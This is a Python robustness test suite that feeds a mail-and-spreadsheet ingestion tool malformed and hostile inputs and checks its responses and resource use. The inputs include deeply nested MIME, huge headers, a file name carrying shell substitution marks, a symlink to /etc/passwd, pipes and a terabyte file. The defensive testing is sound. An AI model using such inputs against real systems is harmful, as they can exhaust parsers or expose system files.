mail_case("base64 broken in the middle", {"a.xlsx": "unreadable-file"}, lambda: mail(attached(FILE).replace(b"AAAA", b"*\n!AA", 9)))
mail_case("base64 cut", {"a.xlsx": "unreadable-file"}, lambda: mail(attached(FILE))[:3_000])
mail_case("an encoding that is none", {"a.xlsx": "unreadable-file"}, lambda: mail(attached(FILE).replace(b"base64", b"x-none")))
mail_case("a mail passed on", {"a.xlsx": "taken"}, lambda: mail(b"Content-Type: message/rfc822\r\n\r\n" + mail(attached(FILE), boundary=b"b2")))
mail_case("a mail as a file", {"x.eml": "unsupported-format"}, lambda: mail(attached(b"filename=x.eml", mail(attached(FILE)))))
mail_case("mails within mails, 50 deep", "unsupported-format", lambda: deep_mails(50))
mail_case("multiparts within multiparts, 500 deep", "unsupported-format", lambda: deep_parts(500))
mail_case("3,000 parts", {"": ANY}, lambda: mail(*[b"Content-Type: text/plain\r\n\r\nx"] * 3_000))
mail_case("a million parts", "unreadable-file", lambda: mail(*[b"\r\nx"] * 1_000_000))
mail_case("a million headers", "unreadable-file", lambda: mail(attached(FILE), head=b"X-A: b\r\n" * 1_000_000))
mail_case("a header of 5 MB", {"a.xlsx": "taken"}, lambda: mail(attached(FILE), head=b"Subject: " + b"x" * (5 << 20) + b"\r\n"))
mail_case("a name of 5 MB", {"tệp đính kèm 1": "taken"}, lambda: mail(attached(b"filename=" + b";" * (5 << 20))))
mail_case("10,000 parameters", {"tệp đính kèm 1": "taken"}, lambda: mail(attached(b";".join(b"a%d=1" % i for i in range(10_000)))))
mail_case("30 MB of empty lines", "unreadable-file", lambda: mail(b"\r\n" * (15 << 20)))
mail_case("winmail.dat", {"winmail.dat": "unsupported-format"}, lambda: mail(attached(b"filename=winmail.dat", b"\x78\x9f\x3e\x22" + bytes(99))))
mail_case("pictures, signatures and texts are left out", {"a.xlsx": "taken"}, lambda: mail(b"Content-Type: text/html\r\n\r\n<p>", attached(b'filename="k.png"\r\nContent-ID: <1>', b"\x89PNG", kind=b"image/png"), attached(b"filename=smime.p7s", b"x"), attached(FILE)))
mail_case("no date", {"a.xlsx": "taken"}, lambda: re.sub(rb"Date:[^\n]*\n", b"", mail(attached(FILE))))
mail_case("a date that is none", {"a.xlsx": "taken"}, lambda: re.sub(rb"Date:[^\n]*", b"Date: " + b"31 Feb " * 99 + b"\r", mail(attached(FILE))))
mail_case("a date in the year 99999", {"a.xlsx": "taken"}, lambda: mail(attached(FILE)).replace(b"2026", b"99999"))
mail_case("two attachments of one name", {"a.xlsx": "taken"}, lambda: mail(attached(FILE), attached(FILE)))
mail_case("attachment of 12 MB", {"": ANY, "b.xlsx": "taken"}, lambda: mail(attached(FILE, noise(1 << 20) * 12), attached(b"filename=b.xlsx")))
mail_case("three attachments of 4 MB", {f"{i}.pdf": "unsupported-format" for i in range(3)} | {"a.xlsx": "taken"}, lambda: mail(*[attached(b"filename=%d.pdf" % i, b"%PDF" + noise(4 << 20)) for i in range(3)], attached(FILE)))
mail_case("a .zip attached", {"a.zip": "unsupported-format"}, lambda: mail(attached(b"filename=a.zip", bundle({"x.xlsx": FORM}))))
mail_case("an .xls attached as text", {"a.xlsx": "unreadable-file"}, lambda: mail(attached(FILE, b"TT,5\r\n", kind=b"text/csv")))
mail_case("our own marks in it", {"a.xlsx": "unreadable-file"}, lambda: mail(attached(FILE)).replace(base64.encodebytes(FORM), b"\x010\x01\x019\x01"))
mail_case("a mail passed on in base64", {"fw.eml": "unsupported-format", "a.xlsx": "taken"}, lambda: mail(attached(b"filename=fw.eml", mail(attached(FILE), boundary=b"b2"), kind=b"message/rfc822"), attached(FILE)))
mail_case("an attachment in uuencode", {"": "unreadable-file", "b.xlsx": "taken"}, lambda: mail(b"Content-Type: text/plain\r\n\r\nbegin 644 a.xlsx\r\n" + b"".join(binascii.b2a_uu(FORM[i : i + 45]) for i in range(0, len(FORM), 45)) + b"`\r\nend", attached(b"filename=b.xlsx")))
mail_case("no boundary", "unsupported-format", lambda: mail(attached(FILE)).replace(b'; boundary="b1"', b""))


def deep_mails(levels: int) -> bytes:
    whole = mail(attached(FILE))
    for level in range(levels):
        whole = mail(b"Content-Type: message/rfc822\r\n\r\n" + whole, boundary=b"c%d" % level)
    return whole


def deep_parts(levels: int) -> bytes:
    heads = b"".join(
        b'--c%d\r\nContent-Type: multipart/mixed; boundary="c%d"\r\n\r\n' % (i, i + 1) for i in range(levels)
    )
    return mail(b'Content-Type: multipart/mixed; boundary="c0"\r\n\r\n' + heads + attached(FILE))


# ------------------------------------------------------------------ files and folders

GROUP = "files"
LONG = "Biểu số liệu " * 12 + ".xlsx"
case("a very long name", {LONG: "taken"}, lambda: {LONG: FORM})
case("a name of marks alone", {"%20&'`$(x);.xlsx": "taken"}, lambda: {"%20&'`$(x);.xlsx": FORM})
case("an undecodable name", {"x\ufffd.xlsx": "taken"}, lambda: {os.fsdecode(b"x\xff.xlsx"): FORM})
case("a name with a line end", {"x\ufffdy.xlsx": "taken"}, lambda: {"x\ny.xlsx": FORM})
case("a name without an ending", {"x": "taken"}, lambda: {"x": FORM})
case("a form named .pdf", {"x.pdf": "taken"}, lambda: {"x.pdf": FORM})
case("30 folders deep", {"d/" * 30 + "a.xlsx": "taken"}, lambda: {"d/" * 30 + "a.xlsx": FORM})
case("100 folders deep", {"d/" * 31 + "d": "unreadable-file"}, lambda: {"d/" * 100 + "a.xlsx": FORM})
case("what programs leave", {}, lambda: dict.fromkeys(("~$a.xlsx", ".~lock.a.xlsx#", "a.tmp", "a.xlsx.crdownload", "a.part", "Thumbs.db", "desktop.ini", ".DS_Store"), b"x"))
case("an unpacked workbook", {"a.xlsx": "unreadable-file"}, lambda: {f"a.xlsx/{n}": b.encode() for n, b in PARTS.items()})
case("an empty folder named like a file", {"a.xlsx": "unreadable-file"}, lambda: {"a.xlsx/": b""})
case("link to a file", {"a.xlsx": "unreadable-file"}, lambda: {"a.xlsx": b"->/etc/passwd"})
case("link to nowhere", {"a.xlsx": "unreadable-file"}, lambda: {"a.xlsx": b"->nowhere"})
case("link to itself", {"a.xlsx": "unreadable-file"}, lambda: {"a.xlsx": b"->a.xlsx"})
case("link to the folder above", {"a": "unreadable-file"}, lambda: {"a": b"->.."})
case("pipe", {"a.xlsx": "unreadable-file"}, lambda: {"a.xlsx": b"|"})
case("device", {"a.xlsx": "unreadable-file"}, lambda: {"a.xlsx": b"->/dev/zero"})
case("file of a terabyte", {"a.xlsx": "too-large"}, lambda: {"a.xlsx": b"1TB"})


# fmt: on

# ------------------------------------------------------------------ how they are run

GROUPS = tuple(dict.fromkeys(c.group for c in CASES))
SECONDS, ABOVE = 20, 700 << 20
"""Where a case is stopped: seconds of the processor, and bytes of address space above the idle process."""


def place(folder: Path, case: Case) -> None:
    """Write the files of ``case``, and the good form beside them."""
    made = case.make()
    for name, content in (made if isinstance(made, Mapping) else {case.file: made}).items():
        path = folder / name
        if name.endswith("/"):
            path.mkdir(parents=True)
            continue
        path.parent.mkdir(parents=True, exist_ok=True)
        if content.startswith(b"->"):
            path.symlink_to(content[2:].decode())
        elif content == b"|":
            os.mkfifo(path)
        elif content == b"1TB":
            with path.open("wb") as stream:
                stream.truncate(1 << 40)
        else:
            path.write_bytes(content)
    (folder / GOOD).write_bytes(FORM)


GOOD = "zz-tốt.xlsx"


def answers(folder: Path) -> dict[str, tuple[list[str], dict[str, str]]]:
    """File -> codes of all that is told of it, and its figures; by way of the very functions that ``read`` calls."""
    from lsindicators import checks, inbox, returns
    from lsindicators.findings import needs_person

    told = {}
    for arrival in inbox.collect([folder], folder):
        findings, figures = list(arrival.findings), {}
        if not needs_person(findings):
            ret, more = returns.read(arrival.content, arrival.file, "00", arrival.kind)
            findings += more
            if ret is not None:
                verdict = checks.judge(PLAN, KEY, ret, datetime.now(UTC))
                findings += verdict.findings
                figures = {f.variable: str(f.value) for f in verdict.figures if f.year == PLAN.settings.year}
        assert all(f.message and "None" not in f.message for f in findings)
        stops = ["!"] if needs_person(findings) else []
        told[arrival.file] = (stops + sorted({f.code.word for f in findings}), figures)
    return told


def wrong(case: Case, told: Mapping[str, tuple[list[str], dict[str, str]]]) -> str:
    """What is wrong with the answers to ``case``; empty when all is well."""
    wanted = dict(case.wanted) if not isinstance(case.wanted, str) else {case.file: case.wanted}
    wanted[GOOD] = "taken"
    for name in told.keys() - wanted.keys():
        return f"{name}: {told[name]} was not wanted"
    for name, alternatives in wanted.items():
        if name not in told:
            return f"{name}: no answer; there are {sorted(told)}"
        codes, figures = told[name]
        if not any(_fits(w, codes, figures) for w in alternatives.split("|")):
            return f"{name}: wanted {alternatives}, told {codes} {figures}"
        if any(EXPECTED.get(variable) != figure for variable, figure in figures.items()):
            return f"{name}: a wrong figure in {figures}"
    return ""


def _fits(wanted: str, codes: list[str], figures: Mapping[str, str]) -> bool:
    state, *needed = wanted.split()
    if not set(needed) <= set(codes):
        return False
    if state == "taken":
        return "!" not in codes and figures == EXPECTED
    if state == "partly":
        return bool(figures) and figures != EXPECTED and "!" in codes
    return state in codes and "!" in codes and not figures


@dataclass(frozen=True)
class Run:
    case: str
    wrong: str
    milliseconds: int
    megabytes: float


def run(case: Case) -> Run:
    """One case in a process of its own, made in another, so that only its reading is measured."""
    with tempfile.TemporaryDirectory() as made:
        folder = Path(made)
        # a folder too deep for the clean-up of the standard library is no matter
        maker = os.fork()
        if not maker:
            place(folder, case)
            os._exit(0)
        _, status = os.waitpid(maker, 0)
        if status:
            return Run(case.name, f"could not be made: {status}", 0, 0)
        ours, theirs = os.pipe()
        reader = os.fork()
        if not reader:
            os.close(ours)
            _read(folder, case, theirs)
        os.close(theirs)
        with os.fdopen(ours, "rb") as stream:
            told = stream.read()
        _, status = os.waitpid(reader, 0)
    if status or not told:
        return Run(case.name, f"killed: signal {os.WTERMSIG(status)}, exit {status >> 8}", 0, 0)
    return Run(case.name, *json.loads(told))


def _read(folder: Path, case: Case, out: int) -> None:
    import resource
    import traceback

    def size(of: int) -> int:
        return int(Path("/proc/self/statm").read_text().split()[of]) * resource.getpagesize()

    idle, ground = size(1), size(0)
    resource.setrlimit(resource.RLIMIT_CPU, (SECONDS, SECONDS))
    resource.setrlimit(resource.RLIMIT_AS, (ground + ABOVE, ground + ABOVE))
    signal.alarm(10 * SECONDS)
    begun = process_time()
    try:
        problem = wrong(case, answers(folder))
    except BaseException:
        problem = traceback.format_exc()
    child = resource.getrusage(resource.RUSAGE_CHILDREN)
    spent = process_time() - begun + child.ru_utime + child.ru_stime
    peak = max(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, child.ru_maxrss) << 10
    os.write(out, json.dumps([problem, round(spent * 1000), round((peak - idle) / (1 << 20), 1)]).encode())
    os._exit(0)


def run_all(groups: tuple[str, ...], *, heavy: bool = True) -> list[Run]:
    with tempfile.TemporaryDirectory() as made:  # all that is needed is loaded before anything is measured
        (Path(made) / "a.xlsx").write_bytes(FORM)
        (Path(made) / "b.eml").write_bytes(mail(attached(FILE)))
        answers(Path(made))
    runs = []
    for c in CASES:
        if c.group in groups and (heavy or c.name not in HEAVY):
            begun = monotonic()
            runs.append(run(c))
            sys.stderr.write(f"{c.group}: {c.name}: {monotonic() - begun:.2f} s {runs[-1].wrong}\n")
    return runs


HEAVY = frozenset(
    {
        "sheet of 2 GB of spaces",
        "property part of 1 GB",
        "65,000 parts",
        "million formatted rows as Excel writes them",
        "million formatted rows with a cell each",
        "million formatted rows as LibreOffice writes them",
        "million hidden rows",
        "million rows, a figure of the form behind them",
        "two million formatted rows",
        "three million formatted cells",
        "million formatted cells in another order",
        "300,000 numbers on the scratch sheet",
        "a million rows",
        "300,000 numbers",
        "300,020 numbers",
        "a million parts",
    }
)
"""These take seconds to be made: they are run by ``python tests/hostile.py`` and with ``LSI_HOSTILE=all`` alone."""


def main(groups: tuple[str, ...]) -> int:
    as_json, heavy = "--json" in groups, "--quick" not in groups
    groups = tuple(g for g in groups if g in GROUPS) or GROUPS
    runs = run_all(groups, heavy=heavy)
    if as_json:
        print(json.dumps([[r.case, r.wrong, r.milliseconds, r.megabytes] for r in runs]))
        return 0
    print(f"{'ms':>6} {'MB':>6}  case")
    for r in sorted(runs, key=lambda r: -r.milliseconds):
        print(f"{r.milliseconds:6} {r.megabytes:6}  {r.case}{'  WRONG: ' + r.wrong if r.wrong else ''}")
    slowest, largest = max(r.milliseconds for r in runs), max(r.megabytes for r in runs)
    print(f"{len(runs)} cases, slowest {slowest} ms, largest {largest} MB, {sum(bool(r.wrong) for r in runs)} wrong")
    return int(any(r.wrong for r in runs))


if __name__ == "__main__":
    sys.exit(main(tuple(sys.argv[1:])))
